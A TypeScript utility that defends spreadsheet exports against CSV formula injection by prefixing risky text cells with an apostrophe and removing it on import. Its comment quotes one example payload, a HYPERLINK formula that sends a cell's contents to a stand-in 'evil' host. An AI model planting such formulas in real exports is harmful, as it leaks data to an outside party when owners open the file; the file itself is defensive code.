/**
 * CSV formula injection: a cell that starts with = + - @ (or a tab or carriage return, which
 * some spreadsheets skip before reading one of those) is run as a formula when an owner opens the
 * export in Excel or Sheets, e.g. a product title `=HYPERLINK("http://evil/?"&A1,"Click")` typed
 * into the dashboard by someone else with catalog rights. OWASP's advice: start such a text cell
 * with an apostrophe, which spreadsheets show as plain text and do not display. Importing the same
 * file strips that apostrophe again, so export -> edit -> import round-trips unchanged.
 */
const FORMULA_START = /^[=+\-@\t\r]/;

/** A text cell safe to open in a spreadsheet. Numbers are left alone (they are not text). */
export function spreadsheetSafe<T>(value: T): T | string {
  return typeof value === 'string' && FORMULA_START.test(value) ? `'${value}` : value;
}

/** The cell as it was before `spreadsheetSafe` (an apostrophe in front of a formula start). */
export function fromSpreadsheetSafe(value: string): string {
  return value.length > 1 && value.startsWith("'") && FORMULA_START.test(value.slice(1)) ? value.slice(1) : value;
}
